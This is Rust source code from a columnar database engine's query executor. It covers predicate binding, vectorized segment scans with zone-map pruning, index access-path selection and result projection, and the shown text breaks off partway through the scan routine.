            // keep slot bookkeeping consistent; simply continue (cheap).
        }
    }

    // Projection.
    let mut out_cols = Vec::new();
    let mut proj_slots: Vec<Option<Slot>> = Vec::new();
    for p in &plan.projections {
        match p {
            Projection::Col(c) => {
                out_cols.push(c.to_string());
                proj_slots.push(Some(binder.bind_col(c)?));
            }
            Projection::CountStar => {
                out_cols.push("count".to_string());
                proj_slots.push(None);
            }
        }
    }

    let count_star = plan.projections.iter().any(|p| matches!(p, Projection::CountStar));
    let mut rows: Vec<Vec<Value>> = if count_star {
        vec![vec![Value::Int(tuples.len() as i64)]]
    } else {
        tuples
            .iter()
            .map(|t| {
                proj_slots
                    .iter()
                    .map(|s| {
                        let s = s.expect("CountStar handled above");
                        tables[s.alias].cell(t[s.alias], s.col)
                    })
                    .collect()
            })
            .collect()
    };

    if plan.distinct && !count_star {
        let mut seen: raptor_common::FxHashSet<Vec<Value>> = Default::default();
        rows.retain(|r| seen.insert(r.clone()));
    }

    if !plan.order_by.is_empty() && !count_star {
        let order_slots: Vec<Slot> =
            plan.order_by.iter().map(|c| binder.bind_col(c)).collect::<Result<Vec<_>>>()?;
        // ORDER BY columns must appear in the projection for sorting of
        // projected rows; otherwise sort tuples first. For the audit
        // workloads ORDER BY is always on projected columns, so sort rows by
        // locating each order column among projections.
        let mut sort_keys = Vec::new();
        for os in &order_slots {
            let pos = proj_slots
                .iter()
                .position(|p| matches!(p, Some(s) if s.alias == os.alias && s.col == os.col))
                .ok_or_else(|| Error::semantic("ORDER BY column must appear in the SELECT list"))?;
            sort_keys.push(pos);
        }
        rows.sort_by(|a, b| {
            for &k in &sort_keys {
                let ord = a[k].cmp_with(b[k], db.dict());
                if ord != std::cmp::Ordering::Equal {
                    return ord;
                }
            }
            std::cmp::Ordering::Equal
        });
    }

    if let Some(n) = plan.limit {
        rows.truncate(n);
    }

    Ok((QueryResultCore { columns: out_cols, rows }, stats))
}

/// Columns + typed shared-plane rows (wrapped by [`crate::db::QueryResult`]).
/// No string is materialized here — symbols resolve at the engine's edge.
#[derive(Clone, Debug, PartialEq)]
pub struct QueryResultCore {
    pub columns: Vec<String>,
    pub rows: Vec<Vec<Value>>,
}
