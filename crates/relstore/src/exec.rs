//! Query execution.
//!
//! Pipeline: per-alias **scan** (access-path selection + vectorized filter)
//! → left-deep **joins** in FROM order (hash join when an equi conjunct
//! links the new alias to bound ones, nested-loop otherwise; residual
//! conjuncts apply as soon as their aliases are bound) → projection →
//! DISTINCT → ORDER BY → LIMIT.
//!
//! Scans pick the cheapest applicable access path per pushed-down conjunct:
//! hash-index point/IN lookups, B-tree ranges for integer comparisons,
//! trigram candidate pruning for `LIKE '%lit%'`. Every path re-verifies the
//! full predicate, so index choice is purely a performance decision.
//!
//! **Vectorized scans** (the columnar storage plane): a pushed-down
//! predicate is compiled once per scan into a `ScanPred` — `IN` lists
//! become hash sets, literals bind to dictionary handles, type mismatches
//! fold to constants — and a full scan walks the table segment by segment.
//! Each segment is first tested against its [zone maps](crate::table::ZoneMap)
//! (`zone_may_match`: min/max/null-count refutation, counted in
//! [`ExecStats::segments_pruned`] without touching a row), and surviving
//! segments evaluate the predicate as tight mask loops over contiguous
//! column slices (`segment_select`), emitting an ascending **selection
//! vector** of row ids. Joins, projection and `ResultBatch` construction
//! consume selection vectors; rows are never materialized inside the scan.
//!
//! **Parallelism** (the parallel execution plane): full scans are
//! partitioned over segment ranges, index-candidate re-verification over
//! row-chunk ranges, and the probe side of every hash join over tuple
//! ranges, all through the database's [`Pool`](raptor_common::pool::Pool).
//! Partition outputs are concatenated in partition order (counters absorbed
//! in segment order), so row order, result rows and every [`ExecStats`]
//! counter are byte-identical to the sequential execution at any thread
//! count; a one-thread pool takes the exact sequential code path.

use raptor_common::error::{Error, Result};
use raptor_common::hash::{FxHashMap, FxHashSet};
use raptor_common::intern::{SharedDict, Sym};
use raptor_common::obs;

use crate::db::Database;
use crate::like::{containment_literal, like_match};
use crate::plan::{QueryPlan, ScanPlan};
use crate::sql::ast::{CmpOp, ColRef, Expr, Literal, Projection};
use crate::table::{RowId, Table};
use crate::value::Value;
use raptor_storage::ValueColumn;

/// Candidate rows below which a scan's predicate re-verification is not
/// worth partitioning (per-row evaluation is tens of nanoseconds; spawning
/// scoped workers costs tens of microseconds). Full scans partition over
/// segment ranges instead, with the same row floor per task.
const PAR_MIN_FILTER_ROWS: usize = 4096;

/// Probe-side tuples below which a hash join probe stays sequential (each
/// probed tuple does a key build, a hash lookup and per-match clones —
/// heavier than a filter row, so the bar is lower).
const PAR_MIN_PROBE_TUPLES: usize = 1024;

/// Execution counters, surfaced for benchmarks and ablations.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct ExecStats {
    /// Rows touched by scans (before residual filtering). Rows inside
    /// zone-pruned segments are never touched and never counted.
    pub rows_scanned: usize,
    /// Tuples materialized across all join steps.
    pub tuples_built: usize,
    /// Scans that used an index access path.
    pub index_scans: usize,
    /// Scans that fell back to a full table scan.
    pub full_scans: usize,
    /// Segments whose rows a full scan actually evaluated.
    pub segments_scanned: usize,
    /// Segments refuted wholesale by their zone maps (no row touched).
    pub segments_pruned: usize,
}

/// A bound column: (alias slot, column index).
#[derive(Clone, Copy, Debug)]
struct Slot {
    alias: usize,
    col: usize,
}

/// Expression with names resolved to slots; string literals are bound to
/// their dictionary handles so per-row equality is an integer compare.
#[derive(Clone, Debug)]
enum BExpr {
    CmpLit { slot: Slot, op: CmpOp, lit: BLit },
    CmpCol { left: Slot, op: CmpOp, right: Slot },
    Like { slot: Slot, pattern: String, negated: bool },
    InList { slot: Slot, set: Vec<BLit>, negated: bool },
    And(Box<BExpr>, Box<BExpr>),
    Or(Box<BExpr>, Box<BExpr>),
    Not(Box<BExpr>),
}

#[derive(Clone, Debug)]
enum BLit {
    Int(i64),
    /// An interned string literal: equality against a row cell is a handle
    /// compare; ordered comparisons resolve both sides. Typed requests
    /// arrive with the handle pre-bound (`Literal::Interned`), parsed text
    /// literals bind through one dictionary lookup here.
    Sym(Sym),
    /// A parsed string literal absent from the dictionary: no row can equal
    /// it; ordered comparisons fall back to the raw text.
    Raw(Box<str>),
}

struct Binder<'a> {
    /// alias → slot index
    slots: FxHashMap<&'a str, usize>,
    /// slot → table
    tables: &'a [&'a Table],
    dict: &'a SharedDict,
}

impl<'a> Binder<'a> {
    fn bind_col(&self, c: &ColRef) -> Result<Slot> {
        let q = c.qualifier.as_deref().ok_or_else(|| {
            Error::semantic(format!("internal: unresolved column `{}`", c.column))
        })?;
        let &alias =
            self.slots.get(q).ok_or_else(|| Error::semantic(format!("unknown alias `{q}`")))?;
        let col = self.tables[alias].schema.require_column(&c.column)?;
        Ok(Slot { alias, col })
    }

    fn bind_lit(&self, l: &Literal) -> BLit {
        match l {
            Literal::Int(i) => BLit::Int(*i),
            Literal::Str(s) => match self.dict.get(s) {
                Some(sym) => BLit::Sym(sym),
                None => BLit::Raw(s.as_str().into()),
            },
            Literal::Interned(sym) => BLit::Sym(*sym),
        }
    }

    fn bind(&self, e: &Expr) -> Result<BExpr> {
        Ok(match e {
            Expr::CmpLit { col, op, lit } => {
                BExpr::CmpLit { slot: self.bind_col(col)?, op: *op, lit: self.bind_lit(lit) }
            }
            Expr::CmpCol { left, op, right } => {
                BExpr::CmpCol { left: self.bind_col(left)?, op: *op, right: self.bind_col(right)? }
            }
            Expr::Like { col, pattern, negated } => BExpr::Like {
                slot: self.bind_col(col)?,
                pattern: pattern.clone(),
                negated: *negated,
            },
            Expr::InList { col, list, negated } => BExpr::InList {
                slot: self.bind_col(col)?,
                set: list.iter().map(|l| self.bind_lit(l)).collect(),
                negated: *negated,
            },
            Expr::And(a, b) => BExpr::And(Box::new(self.bind(a)?), Box::new(self.bind(b)?)),
            Expr::Or(a, b) => BExpr::Or(Box::new(self.bind(a)?), Box::new(self.bind(b)?)),
            Expr::Not(inner) => BExpr::Not(Box::new(self.bind(inner)?)),
        })
    }
}

fn cmp_values(v: Value, op: CmpOp, lit: &BLit, dict: &SharedDict) -> bool {
    use std::cmp::Ordering::*;
    let ord = match (v, lit) {
        (Value::Int(a), BLit::Int(b)) => a.cmp(b),
        (Value::Str(s), BLit::Sym(l)) => {
            // Fast path: equality is a dictionary-handle compare.
            if matches!(op, CmpOp::Eq | CmpOp::Ne) {
                let eq = s == *l;
                return if matches!(op, CmpOp::Eq) { eq } else { !eq };
            }
            dict.resolve(s).cmp(dict.resolve(*l))
        }
        (Value::Str(s), BLit::Raw(raw)) => {
            // Literal not in the dictionary ⇒ no row equals it.
            if matches!(op, CmpOp::Eq | CmpOp::Ne) {
                return matches!(op, CmpOp::Ne);
            }
            dict.resolve(s).cmp(raw.as_ref())
        }
        // Type mismatch or NULL: no comparison holds (SQL-ish semantics).
        _ => return false,
    };
    match op {
        CmpOp::Eq => ord == Equal,
        CmpOp::Ne => ord != Equal,
        CmpOp::Lt => ord == Less,
        CmpOp::Le => ord != Greater,
        CmpOp::Gt => ord == Greater,
        CmpOp::Ge => ord != Less,
    }
}

fn eval(e: &BExpr, tuple: &[RowId], tables: &[&Table], dict: &SharedDict) -> bool {
    match e {
        BExpr::CmpLit { slot, op, lit } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            cmp_values(v, *op, lit, dict)
        }
        BExpr::CmpCol { left, op, right } => {
            let a = tables[left.alias].cell(tuple[left.alias], left.col);
            let b = tables[right.alias].cell(tuple[right.alias], right.col);
            if a.is_null() || b.is_null() {
                return false;
            }
            let ord = a.cmp_with(b, dict);
            match op {
                CmpOp::Eq => ord == std::cmp::Ordering::Equal,
                CmpOp::Ne => ord != std::cmp::Ordering::Equal,
                CmpOp::Lt => ord == std::cmp::Ordering::Less,
                CmpOp::Le => ord != std::cmp::Ordering::Greater,
                CmpOp::Gt => ord == std::cmp::Ordering::Greater,
                CmpOp::Ge => ord != std::cmp::Ordering::Less,
            }
        }
        BExpr::Like { slot, pattern, negated } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            let m = match v {
                Value::Str(s) => like_match(pattern, dict.resolve(s)),
                _ => false,
            };
            m != *negated
        }
        BExpr::InList { slot, set, negated } => {
            let v = tables[slot.alias].cell(tuple[slot.alias], slot.col);
            let m = set.iter().any(|l| cmp_values(v, CmpOp::Eq, l, dict));
            m != *negated
        }
        BExpr::And(a, b) => eval(a, tuple, tables, dict) && eval(b, tuple, tables, dict),
        BExpr::Or(a, b) => eval(a, tuple, tables, dict) || eval(b, tuple, tables, dict),
        BExpr::Not(inner) => !eval(inner, tuple, tables, dict),
    }
}

fn ord_ok(ord: std::cmp::Ordering, op: CmpOp) -> bool {
    use std::cmp::Ordering::*;
    match op {
        CmpOp::Eq => ord == Equal,
        CmpOp::Ne => ord != Equal,
        CmpOp::Lt => ord == Less,
        CmpOp::Le => ord != Greater,
        CmpOp::Gt => ord == Greater,
        CmpOp::Ge => ord != Less,
    }
}

/// A pushed-down scan predicate compiled for vectorized evaluation over one
/// table's column slices. Compilation happens once per scan: `IN` lists
/// become hash sets (the per-row membership test is O(1) instead of a
/// linear literal sweep), string literals stay dictionary handles, and
/// shapes that can never match the column's declared type fold to
/// [`ScanPred::Const`]. Semantics are exactly those of the row-at-a-time
/// [`eval`] over a single-alias tuple — the equivalence suites pin this.
enum ScanPred {
    /// `Int`/`Time` column vs integer literal.
    CmpInt {
        col: usize,
        op: CmpOp,
        lit: i64,
    },
    /// `Str` column vs interned literal (equality is a handle compare;
    /// ordered ops resolve through the dictionary).
    CmpSym {
        col: usize,
        op: CmpOp,
        lit: Sym,
    },
    /// `Str` column ordered-compared against a dictionary-miss literal.
    CmpRaw {
        col: usize,
        op: CmpOp,
        raw: Box<str>,
    },
    /// Same-alias column/column compare.
    CmpCols {
        left: usize,
        op: CmpOp,
        right: usize,
    },
    /// Matches exactly the non-NULL cells (`!=` against a dictionary-miss
    /// literal: every present string differs from it).
    NotNull {
        col: usize,
    },
    Like {
        col: usize,
        pattern: String,
        negated: bool,
    },
    /// `Int`/`Time` column membership; `extent` pre-computes the set's
    /// min/max for zone refutation.
    InInts {
        col: usize,
        set: FxHashSet<i64>,
        extent: (i64, i64),
        negated: bool,
    },
    /// `Str` column membership over interned handles.
    InSyms {
        col: usize,
        set: FxHashSet<Sym>,
        negated: bool,
    },
    /// Decided at compile time (type mismatches, empty `IN` sets, equality
    /// against literals absent from the dictionary).
    Const(bool),
    And(Box<ScanPred>, Box<ScanPred>),
    Or(Box<ScanPred>, Box<ScanPred>),
    Not(Box<ScanPred>),
}

/// Compiles a bound single-alias predicate for `table`. `e` must only
/// reference alias slot 0 (the scan's own alias — guaranteed by predicate
/// pushdown).
fn compile_scan_pred(e: &BExpr, table: &Table) -> ScanPred {
    match e {
        BExpr::CmpLit { slot, op, lit } => {
            let col = slot.col;
            if table.col_is_int(col) {
                match lit {
                    BLit::Int(i) => ScanPred::CmpInt { col, op: *op, lit: *i },
                    // Type mismatch: no comparison holds (SQL-ish).
                    BLit::Sym(_) | BLit::Raw(_) => ScanPred::Const(false),
                }
            } else {
                match lit {
                    BLit::Sym(s) => ScanPred::CmpSym { col, op: *op, lit: *s },
                    BLit::Int(_) => ScanPred::Const(false),
                    BLit::Raw(raw) => match op {
                        // No row equals a literal absent from the dictionary.
                        CmpOp::Eq => ScanPred::Const(false),
                        // ...and every present string differs from it.
                        CmpOp::Ne => ScanPred::NotNull { col },
                        _ => ScanPred::CmpRaw { col, op: *op, raw: raw.clone() },
                    },
                }
            }
        }
        BExpr::CmpCol { left, op, right } => {
            ScanPred::CmpCols { left: left.col, op: *op, right: right.col }
        }
        BExpr::Like { slot, pattern, negated } => {
            if table.col_is_int(slot.col) {
                // A non-string cell never LIKE-matches; NOT LIKE matches all.
                ScanPred::Const(*negated)
            } else {
                ScanPred::Like { col: slot.col, pattern: pattern.clone(), negated: *negated }
            }
        }
        BExpr::InList { slot, set, negated } => {
            let col = slot.col;
            if table.col_is_int(col) {
                let ints: FxHashSet<i64> = set
                    .iter()
                    .filter_map(|l| match l {
                        BLit::Int(i) => Some(*i),
                        _ => None,
                    })
                    .collect();
                if ints.is_empty() {
                    // Nothing can match ⇒ `IN` is false, `NOT IN` true.
                    return ScanPred::Const(*negated);
                }
                let extent = (
                    ints.iter().copied().min().expect("non-empty"),
                    ints.iter().copied().max().expect("non-empty"),
                );
                ScanPred::InInts { col, set: ints, extent, negated: *negated }
            } else {
                let syms: FxHashSet<Sym> = set
                    .iter()
                    .filter_map(|l| match l {
                        BLit::Sym(s) => Some(*s),
                        _ => None,
                    })
                    .collect();
                if syms.is_empty() {
                    return ScanPred::Const(*negated);
                }
                ScanPred::InSyms { col, set: syms, negated: *negated }
            }
        }
        BExpr::And(a, b) => ScanPred::And(
            Box::new(compile_scan_pred(a, table)),
            Box::new(compile_scan_pred(b, table)),
        ),
        BExpr::Or(a, b) => ScanPred::Or(
            Box::new(compile_scan_pred(a, table)),
            Box::new(compile_scan_pred(b, table)),
        ),
        BExpr::Not(inner) => ScanPred::Not(Box::new(compile_scan_pred(inner, table))),
    }
}

/// Can segment `seg` contain a row satisfying `p`? Pure zone-map
/// refutation: exact min/max/null counts, so `false` is a proof (the
/// segment is skipped without touching a row); `true` is conservative.
fn zone_may_match(p: &ScanPred, table: &Table, seg: usize) -> bool {
    match p {
        ScanPred::CmpInt { col, op, lit } => {
            let z = table.zone(*col, seg);
            let (Some(min), Some(max)) = (z.ints.min(), z.ints.max()) else {
                // Every cell NULL: no comparison holds.
                return false;
            };
            match op {
                CmpOp::Eq => *lit >= min && *lit <= max,
                // All non-null cells equal the literal ⇒ `!=` matches none.
                CmpOp::Ne => !(min == max && min == *lit),
                CmpOp::Lt => min < *lit,
                CmpOp::Le => min <= *lit,
                CmpOp::Gt => max > *lit,
                CmpOp::Ge => max >= *lit,
            }
        }
        // String shapes (and `NOT IN`/`NOT LIKE`, which NULL cells satisfy)
        // can only be refuted when the segment holds no eligible cell.
        ScanPred::CmpSym { col, .. }
        | ScanPred::CmpRaw { col, .. }
        | ScanPred::NotNull { col }
        | ScanPred::Like { col, negated: false, .. }
        | ScanPred::InSyms { col, negated: false, .. } => table.zone(*col, seg).non_null() > 0,
        ScanPred::InInts { col, extent, negated: false, .. } => {
            table.zone(*col, seg).ints.overlaps(extent.0, extent.1)
        }
        ScanPred::Like { negated: true, .. }
        | ScanPred::InSyms { negated: true, .. }
        | ScanPred::InInts { negated: true, .. } => true,
        ScanPred::CmpCols { .. } => true,
        ScanPred::Const(b) => *b,
        ScanPred::And(a, b) => zone_may_match(a, table, seg) && zone_may_match(b, table, seg),
        ScanPred::Or(a, b) => zone_may_match(a, table, seg) || zone_may_match(b, table, seg),
        // A refutation of `inner` says nothing about `NOT inner`'s rows.
        ScanPred::Not(_) => true,
    }
}

/// Tight-loop literal mask over one column slice: `f` per non-NULL cell,
/// `false` for NULL. The null branch vanishes on fully-dense columns.
#[inline]
fn lit_mask<T: Copy>(xs: &[T], nulls: Option<&[bool]>, f: impl Fn(T) -> bool) -> Vec<bool> {
    match nulls {
        None => xs.iter().map(|&v| f(v)).collect(),
        Some(ns) => xs.iter().zip(ns).map(|(&v, &n)| !n && f(v)).collect(),
    }
}

fn flip(mut mask: Vec<bool>) -> Vec<bool> {
    for b in &mut mask {
        *b = !*b;
    }
    mask
}

/// Evaluates `p` over the rows of `range` as a boolean mask (one lane per
/// row, in row order).
fn eval_mask(
    p: &ScanPred,
    table: &Table,
    range: &std::ops::Range<usize>,
    dict: &SharedDict,
) -> Vec<bool> {
    let n = range.len();
    let slice_nulls = |col: usize| -> Option<&[bool]> {
        table.col_has_nulls(col).then(|| &table.null_flags(col)[range.clone()])
    };
    match p {
        ScanPred::CmpInt { col, op, lit } => {
            let xs = &table.int_cells(*col).expect("int column")[range.clone()];
            let ns = slice_nulls(*col);
            let lit = *lit;
            match op {
                CmpOp::Eq => lit_mask(xs, ns, |v| v == lit),
                CmpOp::Ne => lit_mask(xs, ns, |v| v != lit),
                CmpOp::Lt => lit_mask(xs, ns, |v| v < lit),
                CmpOp::Le => lit_mask(xs, ns, |v| v <= lit),
                CmpOp::Gt => lit_mask(xs, ns, |v| v > lit),
                CmpOp::Ge => lit_mask(xs, ns, |v| v >= lit),
            }
        }
        ScanPred::CmpSym { col, op, lit } => {
            let xs = &table.sym_cells(*col).expect("str column")[range.clone()];
            let ns = slice_nulls(*col);
            match op {
                CmpOp::Eq => {
                    let lit = *lit;
                    lit_mask(xs, ns, |s| s == lit)
                }
                CmpOp::Ne => {
                    let lit = *lit;
                    lit_mask(xs, ns, |s| s != lit)
                }
                _ => {
                    let ls = dict.resolve(*lit);
                    lit_mask(xs, ns, |s| ord_ok(dict.resolve(s).cmp(ls), *op))
                }
            }
        }
        ScanPred::CmpRaw { col, op, raw } => {
            let xs = &table.sym_cells(*col).expect("str column")[range.clone()];
            let ns = slice_nulls(*col);
            lit_mask(xs, ns, |s| ord_ok(dict.resolve(s).cmp(raw.as_ref()), *op))
        }
        ScanPred::NotNull { col } => match slice_nulls(*col) {
            None => vec![true; n],
            Some(ns) => ns.iter().map(|&b| !b).collect(),
        },
        ScanPred::Like { col, pattern, negated } => {
            let xs = &table.sym_cells(*col).expect("str column")[range.clone()];
            let ns = slice_nulls(*col);
            let m = lit_mask(xs, ns, |s| like_match(pattern, dict.resolve(s)));
            if *negated {
                flip(m)
            } else {
                m
            }
        }
        ScanPred::InInts { col, set, negated, .. } => {
            let xs = &table.int_cells(*col).expect("int column")[range.clone()];
            let m = lit_mask(xs, slice_nulls(*col), |v| set.contains(&v));
            if *negated {
                flip(m)
            } else {
                m
            }
        }
        ScanPred::InSyms { col, set, negated } => {
            let xs = &table.sym_cells(*col).expect("str column")[range.clone()];
            let m = lit_mask(xs, slice_nulls(*col), |s| set.contains(&s));
            if *negated {
                flip(m)
            } else {
                m
            }
        }
        ScanPred::CmpCols { left, op, right } => range
            .clone()
            .map(|i| {
                let a = table.cell(i as RowId, *left);
                let b = table.cell(i as RowId, *right);
                !a.is_null() && !b.is_null() && ord_ok(a.cmp_with(b, dict), *op)
            })
            .collect(),
        ScanPred::Const(b) => vec![*b; n],
        ScanPred::And(a, b) => {
            let mut m = eval_mask(a, table, range, dict);
            for (l, r) in m.iter_mut().zip(eval_mask(b, table, range, dict)) {
                *l = *l && r;
            }
            m
        }
        ScanPred::Or(a, b) => {
            let mut m = eval_mask(a, table, range, dict);
            for (l, r) in m.iter_mut().zip(eval_mask(b, table, range, dict)) {
                *l = *l || r;
            }
            m
        }
        ScanPred::Not(inner) => flip(eval_mask(inner, table, range, dict)),
    }
}

/// Evaluates `p` over one segment range, appending matching row ids (in
/// ascending row order) to the selection vector `out`.
fn segment_select(
    p: &ScanPred,
    table: &Table,
    range: std::ops::Range<usize>,
    dict: &SharedDict,
    out: &mut Vec<RowId>,
) {
    let start = range.start;
    let mask = eval_mask(p, table, &range, dict);
    for (i, &hit) in mask.iter().enumerate() {
        if hit {
            out.push((start + i) as RowId);
        }
    }
}

/// Row-at-a-time evaluation of a compiled scan predicate — the
/// index-candidate re-verification path, where rows arrive as scattered
/// candidate ids instead of contiguous segments. Same semantics as
/// [`eval_mask`], sharing the compiled `IN` hash sets.
fn test_row(p: &ScanPred, table: &Table, row: RowId, dict: &SharedDict) -> bool {
    let i = row as usize;
    let is_null = |col: usize| table.col_has_nulls(col) && table.null_flags(col)[i];
    match p {
        ScanPred::CmpInt { col, op, lit } => {
            !is_null(*col) && ord_ok(table.int_cells(*col).expect("int column")[i].cmp(lit), *op)
        }
        ScanPred::CmpSym { col, op, lit } => {
            if is_null(*col) {
                return false;
            }
            let s = table.sym_cells(*col).expect("str column")[i];
            match op {
                CmpOp::Eq => s == *lit,
                CmpOp::Ne => s != *lit,
                _ => ord_ok(dict.resolve(s).cmp(dict.resolve(*lit)), *op),
            }
        }
        ScanPred::CmpRaw { col, op, raw } => {
            !is_null(*col)
                && ord_ok(
                    dict.resolve(table.sym_cells(*col).expect("str column")[i]).cmp(raw.as_ref()),
                    *op,
                )
        }
        ScanPred::NotNull { col } => !is_null(*col),
        ScanPred::Like { col, pattern, negated } => {
            let m = !is_null(*col)
                && like_match(pattern, dict.resolve(table.sym_cells(*col).expect("str column")[i]));
            m != *negated
        }
        ScanPred::InInts { col, set, negated, .. } => {
            let m = !is_null(*col) && set.contains(&table.int_cells(*col).expect("int column")[i]);
            m != *negated
        }
        ScanPred::InSyms { col, set, negated } => {
            let m = !is_null(*col) && set.contains(&table.sym_cells(*col).expect("str column")[i]);
            m != *negated
        }
        ScanPred::CmpCols { left, op, right } => {
            let a = table.cell(row, *left);
            let b = table.cell(row, *right);
            !a.is_null() && !b.is_null() && ord_ok(a.cmp_with(b, dict), *op)
        }
        ScanPred::Const(b) => *b,
        ScanPred::And(a, b) => test_row(a, table, row, dict) && test_row(b, table, row, dict),
        ScanPred::Or(a, b) => test_row(a, table, row, dict) || test_row(b, table, row, dict),
        ScanPred::Not(inner) => !test_row(inner, table, row, dict),
    }
}

/// Chooses an index access path for one pushed-down conjunct, if possible.
/// Returns candidate row ids (a superset of matches among which the full
/// predicate is re-verified), or `None` if no index applies.
fn access_path(db: &Database, scan: &ScanPlan, conjunct: &Expr) -> Option<Vec<RowId>> {
    match conjunct {
        Expr::CmpLit { col, op: CmpOp::Eq, lit } => {
            let idx = db.hash_index(&scan.table, &col.column)?;
            let key = match lit {
                Literal::Int(i) => Value::Int(*i),
                // Typed requests arrive pre-interned: no dictionary lookup.
                Literal::Interned(sym) => Value::Str(*sym),
                // A string literal absent from the dictionary equals no row.
                Literal::Str(s) => match db.dict().get(s) {
                    Some(sym) => Value::Str(sym),
                    None => return Some(Vec::new()),
                },
            };
            Some(idx.get(key).to_vec())
        }
        Expr::InList { col, list, negated: false } => {
            let idx = db.hash_index(&scan.table, &col.column)?;
            let mut rows = Vec::new();
            for lit in list {
                let key = match lit {
                    Literal::Int(i) => Value::Int(*i),
                    Literal::Interned(sym) => Value::Str(*sym),
                    Literal::Str(s) => match db.dict().get(s) {
                        Some(sym) => Value::Str(sym),
                        None => continue,
                    },
                };
                rows.extend_from_slice(idx.get(key));
            }
            rows.sort_unstable();
            rows.dedup();
            Some(rows)
        }
        Expr::CmpLit { col, op, lit: Literal::Int(i) } => {
            let idx = db.btree_index(&scan.table, &col.column)?;
            let (lo, hi) = match op {
                CmpOp::Lt => (i64::MIN, i - 1),
                CmpOp::Le => (i64::MIN, *i),
                CmpOp::Gt => (i + 1, i64::MAX),
                CmpOp::Ge => (*i, i64::MAX),
                _ => return None,
            };
            Some(idx.range(lo, hi))
        }
        Expr::Like { col, pattern, negated: false } => {
            let lit = containment_literal(pattern)?;
            let tri = db.trigram_index(&scan.table, &col.column)?;
            let candidates = tri.candidates(&lit)?;
            // Verify the LIKE on the (small) dictionary, then fan out to rows.
            let hash = db.hash_index(&scan.table, &col.column)?;
            let mut rows = Vec::new();
            for sym in candidates {
                if like_match(pattern, db.dict().resolve(sym)) {
                    rows.extend_from_slice(hash.get(Value::Str(sym)));
                }
            }
            rows.sort_unstable();
            rows.dedup();
            Some(rows)
        }
        _ => None,
    }
}

/// Estimated candidate-row count for one indexable conjunct, read from the
/// table's maintained statistics. `Some` exactly when an applicable index
/// exists for the conjunct's shape (mirrors [`access_path`]); the planner
/// materializes only the cheapest estimate instead of every path.
fn conjunct_estimate(
    db: &Database,
    scan: &ScanPlan,
    ts: &raptor_storage::TableStats,
    conjunct: &Expr,
) -> Option<f64> {
    let rows = ts.rows() as f64;
    // A column with no recorded non-null values matches no equality/range.
    let col_frac = |col: &ColRef, f: &dyn Fn(&raptor_storage::ColumnStats) -> f64| -> f64 {
        ts.column(&col.column).map_or(0.0, f)
    };
    // Equality fractions key the symbol-frequency maps directly; a parsed
    // literal does one dictionary lookup, a typed (pre-interned) one none.
    let eq_frac = |col: &ColRef, lit: &Literal| -> f64 {
        match lit {
            Literal::Int(i) => col_frac(col, &|c| c.eq_fraction_int(*i)),
            Literal::Interned(sym) => col_frac(col, &|c| c.eq_fraction_sym(*sym)),
            Literal::Str(s) => match db.dict().get(s) {
                Some(sym) => col_frac(col, &|c| c.eq_fraction_sym(sym)),
                None => 0.0,
            },
        }
    };
    match conjunct {
        Expr::CmpLit { col, op: CmpOp::Eq, lit } => {
            db.hash_index(&scan.table, &col.column)?;
            Some(eq_frac(col, lit) * rows)
        }
        Expr::InList { col, list, negated: false } => {
            db.hash_index(&scan.table, &col.column)?;
            let frac: f64 = list.iter().map(|lit| eq_frac(col, lit)).sum();
            Some(frac.min(1.0) * rows)
        }
        Expr::CmpLit { col, op, lit: Literal::Int(i) } => {
            if !matches!(op, CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge) {
                return None;
            }
            db.btree_index(&scan.table, &col.column)?;
            Some(col_frac(col, &|c| c.cmp_fraction(storage_cmp(*op), *i)) * rows)
        }
        Expr::Like { col, pattern, negated: false } => {
            containment_literal(pattern)?;
            db.trigram_index(&scan.table, &col.column)?;
            db.hash_index(&scan.table, &col.column)?;
            Some(col_frac(col, &|c| c.like_fraction(pattern, db.dict())) * rows)
        }
        _ => None,
    }
}

fn storage_cmp(op: CmpOp) -> raptor_storage::CmpOp {
    match op {
        CmpOp::Eq => raptor_storage::CmpOp::Eq,
        CmpOp::Ne => raptor_storage::CmpOp::Ne,
        CmpOp::Lt => raptor_storage::CmpOp::Lt,
        CmpOp::Le => raptor_storage::CmpOp::Le,
        CmpOp::Gt => raptor_storage::CmpOp::Gt,
        CmpOp::Ge => raptor_storage::CmpOp::Ge,
    }
}

/// Runs one scan: pick the most selective index path among the pushed-down
/// conjuncts, then re-verify the whole predicate.
///
/// Access-path choice is **statistics-driven**: per-conjunct candidate
/// counts are estimated from [`Database::store_stats`] and only the
/// cheapest path is materialized. (The seed behavior — materialize every
/// applicable path and keep the smallest — remains as the fallback when
/// stats carry no signal for the table.)
fn run_scan(db: &Database, scan: &ScanPlan, stats: &mut ExecStats) -> Result<Vec<RowId>> {
    let table = db
        .table(&scan.table)
        .ok_or_else(|| Error::storage(format!("unknown table `{}`", scan.table)))?;
    let tables = [table];
    let binder = Binder {
        slots: std::iter::once((scan.alias.as_str(), 0usize)).collect(),
        tables: &tables,
        dict: db.dict(),
    };

    let Some(pred) = &scan.predicate else {
        // Unfiltered scan: every segment is read, every row selected.
        stats.full_scans += 1;
        stats.segments_scanned += table.n_segments();
        stats.rows_scanned += table.len();
        return Ok((0..table.len() as RowId).collect());
    };

    // The predicate is compiled once per scan: hash-set `IN`s, handle-bound
    // string literals, constant-folded type mismatches — shared by both the
    // vectorized full scan and the index-candidate re-verification.
    let compiled = compile_scan_pred(&binder.bind(pred)?, table);
    let dict = db.dict();

    let conjuncts = pred.clone().conjuncts();
    let cheapest = db.store_stats().table(&scan.table).and_then(|ts| {
        conjuncts
            .iter()
            .enumerate()
            .filter_map(|(i, c)| conjunct_estimate(db, scan, ts, c).map(|e| (i, e)))
            .min_by(|a, b| a.1.total_cmp(&b.1).then(a.0.cmp(&b.0)))
    });
    let best = match cheapest.and_then(|(i, _)| access_path(db, scan, &conjuncts[i])) {
        Some(rows) => Some(rows),
        None => {
            // Fallback: try every conjunct, keep the smallest set.
            let mut best: Option<Vec<RowId>> = None;
            for conjunct in &conjuncts {
                if let Some(rows) = access_path(db, scan, conjunct) {
                    if best.as_ref().is_none_or(|b| rows.len() < b.len()) {
                        best = Some(rows);
                    }
                }
            }
            best
        }
    };

    if let Some(candidates) = best {
        // Index path: re-verify the full predicate over the candidates,
        // partitioned over row-chunk ranges; concatenating the partitions
        // in order reproduces the sequential row order exactly.
        stats.index_scans += 1;
        stats.rows_scanned += candidates.len();
